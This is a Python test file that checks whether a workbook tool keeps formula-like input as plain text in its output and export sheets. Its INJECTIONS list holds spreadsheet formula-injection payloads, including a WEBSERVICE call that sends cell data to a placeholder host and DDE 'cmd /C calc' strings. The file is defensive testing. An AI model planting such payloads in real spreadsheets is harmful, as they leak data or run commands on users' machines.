"""Output cells are values, never formulas: a text that begins with = + - @ in an input cell arrives in
the output sheets as that text (with Excel's quote prefix), and `vp export` keeps such texts texts."""

import re
import zipfile

import openpyxl
import pytest

from test_file_fidelity import parts, sheet_part
from workbook import export as export_module
from workbook import layout as L
from workbook.cli import main
from workbook.patch import cell_xml, ooxml_text
from workbook.xlsx import XlsxBook

from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
EXAMPLE = ROOT / "workbook" / "VP2025-exempel.xlsx"
INJECTIONS = ['=WEBSERVICE("http://x/?"&A1)', '+HYPERLINK("http://x","klicka")', "-2+3+cmd|' /C calc'!A0",
              "@SUM(1+1)*cmd|' /C calc'!A0", "=1+1"]


def typed_as_text(path, sheet, cells):
    """Type texts into cells as a person would in Excel (a leading ' makes a text of =...)."""
    wb = openpyxl.load_workbook(path)
    for coordinate, text in cells.items():
        cell = wb[sheet][coordinate]
        cell.value = text
        cell.data_type = "s"  # a text, not a formula
    wb.save(path)


def indicator_rows(path):
    table = XlsxBook(path).read_table(L.INDICATORS, ["Id", "Indikator"])
    return {table.frame.at[i, "Id"]: table.rows[n] for n, i in enumerate(table.frame.index)}


@pytest.fixture
def injected(tmp_path):
    path = tmp_path / "VP2025.xlsx"
    path.write_bytes(EXAMPLE.read_bytes())
    rows = indicator_rows(path)
    names = {f"D{rows[f'I0{n + 1}']}": text for n, text in enumerate(INJECTIONS)}
    typed_as_text(path, L.INDICATORS, names)
    assert main(["refresh", str(path)]) == 0
    return path


def test_injected_texts_arrive_in_the_overview_as_texts(injected):
    overview = parts(injected)[sheet_part(injected, L.OVERVIEW)]
    assert not re.search(rb"<(\w+:)?f[ >/]", overview)  # no formula element at all
    wb = openpyxl.load_workbook(injected)
    names = {}
    for row in wb[L.OVERVIEW].iter_rows(min_row=5):
        if row[0].value == "Indikator":
            names[row[3].value] = row[4]
    for n, text in enumerate(INJECTIONS):
        cell = names[f"I0{n + 1}"]
        assert cell.value == text and cell.data_type == "s"
        assert cell.quotePrefix  # Excel keeps it text when the cell is edited


def test_a_formula_like_text_as_an_id_is_a_text_in_overview_and_log(tmp_path):
    path = tmp_path / "VP2025.xlsx"
    path.write_bytes(EXAMPLE.read_bytes())
    main(["refresh", str(path)])
    row = indicator_rows(path)["I05"]
    typed_as_text(path, L.INDICATORS, {f"A{row}": "=HYPERLINK(\"http://x\")"})
    assert main(["refresh", str(path)]) == 0
    wb = openpyxl.load_workbook(path)
    ids = [r[3] for r in wb[L.OVERVIEW].iter_rows(min_row=5) if r[0].value == "Indikator"]
    assert any(c.value == '=HYPERLINK("http://x")' and c.data_type == "s" for c in ids)
    log = [r for r in wb[L.LOG].iter_rows(min_row=5) if r[0].value]
    assert '=HYPERLINK("http://x")' in log[-1][3].value and log[-1][3].data_type == "s"
    for name in L.OUTPUT_SHEETS:
        assert not re.search(rb"<(\w+:)?f[ >/]", parts(path)[sheet_part(path, name)])


def test_cell_text_is_escaped_for_xml_and_for_excel():
    assert ooxml_text("a<b&c") == "a&lt;b&amp;c"
    assert ooxml_text("bell\x07 and cr\r") == "bell_x0007_ and cr_x000D_"
    assert ooxml_text("_x0041_ typed") == "_x005F_x0041_ typed"  # Excel shows it as typed, not as "A"
    assert len(ooxml_text("x" * 40000)) == 32767
    assert cell_xml("", "A1", "=1+1", 3, None) == ('<c r="A1" s="3" t="inlineStr"><is><t xml:space="preserve">=1+1</t>'
                                                  "</is></c>")
    assert cell_xml("x:", "B2", 0.5, 0, None) == '<x:c r="B2"><x:v>0.5</x:v></x:c>'
    assert cell_xml("", "C3", float("inf"), 0, None) == '<c r="C3" t="e"><v>#NUM!</v></c>'
    assert cell_xml("", "C3", float("nan"), 0, None) == ""


def test_export_writes_values_and_keeps_texts_beginning_with_equals_texts(tmp_path, monkeypatch):
    """The writing half of `vp export`, with the formula engine replaced by known results."""
    path = tmp_path / "VP2025.xlsx"
    path.write_bytes(EXAMPLE.read_bytes())
    row = indicator_rows(path)["I01"]
    typed_as_text(path, L.INDICATORS, {f"D{row}": INJECTIONS[0]})
    formulas = {}
    source = openpyxl.load_workbook(path)
    for ws in source.worksheets:
        for line in ws.iter_rows():
            for cell in line:
                if cell.data_type == "f":
                    formulas[(ws.title.upper(), cell.coordinate)] = f"=räknat {cell.coordinate}"
    assert len(formulas) > 100
    monkeypatch.setattr(export_module, "calculate_stored", lambda copy, package=None: formulas)
    out = tmp_path / "kopia.xlsx"
    before = path.read_bytes()
    assert main(["export", str(path), "--out", str(out)]) == 0
    assert path.read_bytes() == before
    with zipfile.ZipFile(out) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/sheet"):
                assert not re.search(rb"<(\w+:)?f[ >/]", z.read(name)), name
    copy = openpyxl.load_workbook(out)
    for (sheet, coordinate), value in formulas.items():
        cell = copy[[ws.title for ws in copy.worksheets if ws.title.upper() == sheet][0]][coordinate]
        assert cell.value == value and cell.data_type == "s", (sheet, coordinate)
    assert copy[L.INDICATORS][f"D{row}"].value == INJECTIONS[0]
    assert copy[L.INDICATORS][f"D{row}"].data_type == "s"
    unchanged = {n for n, data in parts(path).items() if parts(out).get(n) == data}
    assert "xl/drawings/commentsDrawing1.vml" in unchanged and "xl/theme/theme1.xml" in unchanged
